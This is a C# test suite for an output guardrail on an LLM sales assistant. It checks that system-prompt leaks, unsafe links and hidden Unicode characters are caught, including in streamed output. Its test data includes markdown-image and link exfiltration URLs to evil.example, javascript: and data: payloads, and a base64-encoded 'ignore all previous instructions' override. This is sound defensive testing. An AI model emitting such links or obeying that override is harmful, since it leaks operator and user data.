using Artisan.Core.Guardrails.Output;
using FsCheck;
using FsCheck.Fluent;
using Shouldly;
using Xunit;

namespace Artisan.Core.Tests.Guardrails.Output;

/// <summary>What must not leave in an answer is found and made harmless, and the rest stays as it is; whole or streamed, it is the same.</summary>
public sealed class OutputInspectorTests
{
    private const string Prompt = "You are Ada, the assistant of Acme's sales team. Never offer more than ten percent discount and never tell anyone about project Bluebird before May.";
    private static readonly OutputPolicy Policy = new(["acme.example"]);
    private static readonly OutputInspector Inspector = new(Policy);

    [Fact]
    public void A_long_stretch_of_the_system_prompt_is_a_leak()
    {
        const string leak = "never offer MORE than ten percent discount, and never tell anyone about Project Bluebird before May";
        string answer = $"Sure! My rules: {leak}. Anything else?";
        OutputInspection inspection = Inspector.Inspect(answer, Prompt);
        OutputFinding finding = inspection.Findings.ShouldHaveSingleItem();
        finding.Kind.ShouldBe(OutputFindingKind.SystemPromptLeak);
        answer.Substring(finding.Start, finding.Length).ShouldBe(leak);
        inspection.Text.ShouldBe("Sure! My rules: [removed: system prompt]. Anything else?");
        inspection.LeakedShare.ShouldBeInRange(0.55f, 0.75f);
    }

    [Fact]
    public void The_prompts_of_other_calls_do_not_matter()
    {
        const string other = "You are Bob, who answers questions about deliveries of the warehouse in Graz and nowhere else, in two sentences at most.";
        const string answer = "I am told: never offer more than ten percent discount and never tell anyone about project Bluebird before May.";
        for (int i = 0; i < 3; i++)
        {
            Inspector.Inspect(answer, Prompt).Findings.ShouldHaveSingleItem();
            Inspector.Inspect(answer, other).Findings.ShouldBeEmpty();
        }
    }

    [Theory]
    [InlineData("We can never offer more than that, I am afraid.")]
    [InlineData("I am the assistant of the sales team and can tell you about our discounts.")]
    [InlineData("")]
    public void A_few_shared_words_are_none(string answer)
    {
        OutputInspection inspection = Inspector.Inspect(answer, Prompt);
        inspection.Findings.ShouldBeEmpty();
        inspection.Text.ShouldBeSameAs(answer);
    }

    [Fact]
    public void A_short_prompt_leaks_as_a_whole()
    {
        Inspector.Inspect("It says: the code word is bluebird.", "The code word is bluebird").Findings.ShouldHaveSingleItem().Rule.ShouldBe("prompt_words");
        Inspector.Inspect("You are helpful", "You are helpful").Findings.ShouldBeEmpty();
    }

    [Theory]
    [InlineData("script_scheme", "See [the report](javascript:alert(1)) now", "See the report [link removed]) now")]
    [InlineData("data_scheme", "See [it](data:text/html;base64,PHNjcmlwdD4=).", "See it [link removed].")]
    [InlineData("image_with_data", "Done ![logo](https://evil.example/p.png?q=hello) ok", "Done logo [link removed] ok")]
    [InlineData("image_with_data", "Done ![](https://evil.example/p.png?q=hello) ok", "Done [link removed] ok")]
    [InlineData("carries_data", "[more](https://evil.example/c?d=SWdub3JlIGFsbCBwcmV2aW91cyBpbnN0cnVjdGlvbnM0NTY3)", "more [link removed]")]
    [InlineData("carries_data", "Visit https://evil.example/?t=the+customer+said+that+he+will+not+pay today", "Visit [link removed] today")]
    [InlineData("carries_prompt", "Visit https://evil.example/never-tell-anyone-about today", "Visit [link removed] today")]
    [InlineData("credentials", "Go to https://admin:secret@intranet.example/ now", "Go to [link removed] now")]
    [InlineData("script_scheme", "<a href=\"javascript:steal()\">x</a>", "<a href=\"[link removed])\">x</a>")]
    public void Unsafe_links_lose_their_address_and_keep_what_people_see(string rule, string answer, string safe)
    {
        OutputInspection inspection = Inspector.Inspect(answer, Prompt);
        OutputFinding finding = inspection.Findings.ShouldHaveSingleItem();
        finding.Rule.ShouldBe(rule);
        inspection.Text.ShouldBe(safe);
    }

    [Theory]
    [InlineData("Read [our terms](https://acme.example/terms?lang=en&ref=SWdub3JlIGFsbCBwcmV2aW91cyBpbnN0cnVjdGlvbnM0NTY3).")]
    [InlineData("![chart](https://cdn.acme.example/chart.png?w=300)")]
    [InlineData("![logo](https://other.example/logo.png)")]
    [InlineData("See https://en.wikipedia.org/wiki/Customer_relationship_management_in_small_and_medium_companies for more.")]
    [InlineData("JavaScript: the good parts. Data: none. [1] [a](b) ![x] (y) !")]
    [InlineData("Persian می‌خواهم, a family 👨‍👩‍👧 and England 🏴\U000E0067\U000E0062\U000E0065\U000E006E\U000E0067\U000E007F")]
    public void Ordinary_links_and_writing_stay(string answer)
    {
        OutputInspection inspection = Inspector.Inspect(answer, Prompt);
        inspection.Findings.ShouldBeEmpty();
        inspection.Text.ShouldBe(answer);
    }

    [Fact]
    public void Hidden_characters_are_taken_out_where_they_stand()
    {
        OutputInspection inspection = Inspector.Inspect("pay\u200b\u200bment\u202e due\U000E0041", null);
        inspection.Text.ShouldBe("payment due");
        inspection.Findings.ShouldBe([
            new OutputFinding(OutputFindingKind.HiddenCharacters, "hidden_characters", 3, 2),
            new OutputFinding(OutputFindingKind.HiddenCharacters, "hidden_characters", 9, 1),
            new OutputFinding(OutputFindingKind.HiddenCharacters, "hidden_characters", 14, 2)]);
    }

    [Fact]
    public void An_address_without_end_goes_as_a_whole()
    {
        string answer = "See https://evil.example/" + new string('a', 300) + new string('7', 5000) + " there.";
        OutputInspection inspection = Inspector.Inspect(answer, null);
        inspection.Text.ShouldBe("See [link removed] there.");
        inspection.Findings.ShouldHaveSingleItem().Length.ShouldBe(answer.Length - "See ".Length - " there.".Length);
    }

    [Fact]
    public void What_is_held_back_is_bounded()
    {
        foreach (string piece in new[] { "never offer more than ", "[label ", "https://a.example/x", "word", "   ", "\ud83d\ude00", "[", "![" })
        {
            var window = new OutputWindow(Policy, Prompt);
            int pushed = 0, released = 0;
            for (int i = 0; i < 3000; i++)
            {
                released += window.Push(piece).Length;
                pushed += piece.Length;
                if (window.Findings.Count == 0)
                    (pushed - released).ShouldBeLessThan(2500, piece);
            }
        }
    }

    [Fact]
    public void Pieces_do_not_matter()
    {
        string[] parts =
        [
            "Never offer more than ten percent discount and never tell anyone about project Bluebird before May", "never offer more than ten percent discount and never", " tell anyone",
            "[label](", "https://evil.example/?q=", "abc", ")", "![", "x](", "javascript:", "data:", "(", "\"", " ", ".", "\n", "\u200b", "word", "😀", "\ud83d", "\U000E0041",
            "https://u:p@h.example", "http", "://", new string('k', 70), new string('7', 650), "!", "[", "]", "acme.example", "before May.",
        ];
        Gen<(string[] Text, int Seed)> answers = from list in Gen.Elements(parts).ListOf() from seed in Gen.Choose(0, int.MaxValue - 1) select (list.ToArray(), seed);
        Prop.ForAll(answers.ToArbitrary(), answer =>
        {
            string text = string.Concat(answer.Text);
            OutputInspection whole = Inspector.Inspect(text, Prompt);
            var window = new OutputWindow(Policy, Prompt);
            var random = new Random(answer.Seed);
            string streamed = "";
            for (int at = 0; at < text.Length;)
            {
                int length = Math.Min(random.Next(1, random.Next(2, 40)), text.Length - at);
                streamed += window.Push(text.Substring(at, length));
                at += length;
            }
            streamed += window.Flush();
            return streamed == whole.Text && window.Findings.SequenceEqual(whole.Findings) && window.LeakedShare == whole.LeakedShare
                && whole.Findings.All(finding => finding.Start >= 0 && finding.Length > 0 && finding.Start + finding.Length <= text.Length);
        }).Check(Config.QuickThrowOnFailure.WithMaxTest(1500));
    }
}
